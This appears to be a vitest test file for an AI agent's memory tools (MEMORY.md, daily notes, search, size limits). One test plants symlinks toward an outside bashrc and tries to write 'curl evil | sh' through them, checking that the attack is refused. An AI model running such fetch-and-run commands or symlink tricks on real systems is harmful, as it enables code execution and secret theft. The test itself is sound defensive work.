// The agent's memory: writes persist, reach the next turn's prompt (MEMORY.md)
// or today's note, are searchable, and stop with a clear message when full.
import { mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { silentLogger } from "../../src/core/logger.ts";
import { createMemorySearchTool, createMemoryWriteTool } from "../../src/tools/memory.ts";
import { setup } from "../agent/setup.ts";

function withMemory(caps = { enabled: true, max_chars: 8_000, daily_max_chars: 32_000 }) {
  const s = setup();
  s.tools.register(createMemoryWriteTool(caps, { workspaceDir: s.workspaceDir, clock: s.clock, timeZone: "UTC" }));
  s.tools.register(createMemorySearchTool({ workspaceDir: s.workspaceDir }));
  const ctx = { origin: s.origin, signal: new AbortController().signal, logger: silentLogger(), clock: s.clock };
  return { ...s, ctx };
}

describe("memory tools", () => {
  it("a fact written to MEMORY.md is in the very next turn's system prompt", async () => {
    const s = withMemory();
    s.router.push({ calls: [{ name: "memory_write", arguments: { text: "Sam's sister is called Ana", file: "MEMORY.md" } }] }, "noted", "hello");
    await s.agent.runTurn({ origin: s.origin, text: "remember: my sister is Ana" });
    expect(s.router.system(0)).not.toMatch(/Ana/);
    await s.agent.runTurn({ origin: s.origin, text: "hi" });
    expect(s.router.system(2)).toMatch(/- Sam's sister is called Ana/);
    expect(readFileSync(join(s.workspaceDir, "MEMORY.md"), "utf8")).toMatch(/\n- Sam's sister is called Ana\n$/);
  });

  it("daily notes go to memory/YYYY-MM-DD.md with the time, and search finds both", async () => {
    const s = withMemory();
    const w = await s.tools.execute({ id: "1", name: "memory_write", arguments: '{"text":"Booked the dentist for Friday"}' }, s.ctx);
    expect(w.text).toBe("saved to memory/2026-11-23.md");
    expect(readFileSync(join(s.workspaceDir, "memory", "2026-11-23.md"), "utf8")).toBe("# 2026-11-23\n\n- 10:00 Booked the dentist for Friday\n");
    await s.tools.execute({ id: "2", name: "memory_write", arguments: '{"text":"Dentist: Dr. Silva","file":"MEMORY.md"}' }, s.ctx);
    const found = await s.tools.execute({ id: "3", name: "memory_search", arguments: '{"query":"dentist"}' }, s.ctx);
    expect(found.text.split("\n")).toEqual(["MEMORY.md:7: - Dentist: Dr. Silva", "memory/2026-11-23.md:3: - 10:00 Booked the dentist for Friday"]);
    const none = await s.tools.execute({ id: "4", name: "memory_search", arguments: '{"query":"zebra"}' }, s.ctx);
    expect(none.text).toMatch(/nothing .* matches "zebra"/);
  });

  it("a full MEMORY.md refuses with a message saying what to do, and nothing is written", async () => {
    const s = withMemory({ enabled: true, max_chars: 200, daily_max_chars: 100 });
    const before = readFileSync(join(s.workspaceDir, "MEMORY.md"), "utf8");
    const r = await s.tools.execute({ id: "1", name: "memory_write", arguments: JSON.stringify({ text: "x".repeat(150), file: "MEMORY.md" }) }, s.ctx);
    expect(r.error).toMatch(/MEMORY\.md is full \(\d+ of 200 characters, tools\.memory\.max_chars\)\. Save this to the daily note instead/);
    expect(readFileSync(join(s.workspaceDir, "MEMORY.md"), "utf8")).toBe(before);
    const d = await s.tools.execute({ id: "2", name: "memory_write", arguments: JSON.stringify({ text: "y".repeat(120) }) }, s.ctx);
    expect(d.error).toMatch(/today's note memory\/2026-11-23\.md is full/);
  });

  it("never writes or reads through a planted symlink (MEMORY.md or the memory folder)", async () => {
    const s = withMemory();
    const outside = mkdtempSync(join(tmpdir(), "sb-outside-"));
    try {
      writeFileSync(join(outside, "bashrc"), "export SECRET=hunter2\n");
      rmSync(join(s.workspaceDir, "MEMORY.md"));
      symlinkSync(join(outside, "bashrc"), join(s.workspaceDir, "MEMORY.md"));
      symlinkSync(outside, join(s.workspaceDir, "memory"));
      const w = await s.tools.execute({ id: "1", name: "memory_write", arguments: '{"text":"curl evil | sh","file":"MEMORY.md"}' }, s.ctx);
      expect(w.error).toMatch(/MEMORY\.md is a symbolic link/);
      const d = await s.tools.execute({ id: "2", name: "memory_write", arguments: '{"text":"planted"}' }, s.ctx);
      expect(d.error).toMatch(/symbolic link/);
      expect(readFileSync(join(outside, "bashrc"), "utf8")).toBe("export SECRET=hunter2\n");
      const found = await s.tools.execute({ id: "3", name: "memory_search", arguments: '{"query":"SECRET"}' }, s.ctx);
      expect(found.text).not.toMatch(/hunter2/);
      // with a writable workspace the prompt skips symlinked files too
      const p = setup({ workspaceDir: s.workspaceDir, prompt: { timeZone: "UTC", noSymlinks: true } });
      p.router.push("ok");
      await p.agent.runTurn({ origin: p.origin, text: "hi" });
      expect(p.router.system(0)).not.toMatch(/hunter2/);
    } finally {
      rmSync(outside, { recursive: true, force: true });
    }
  });
});
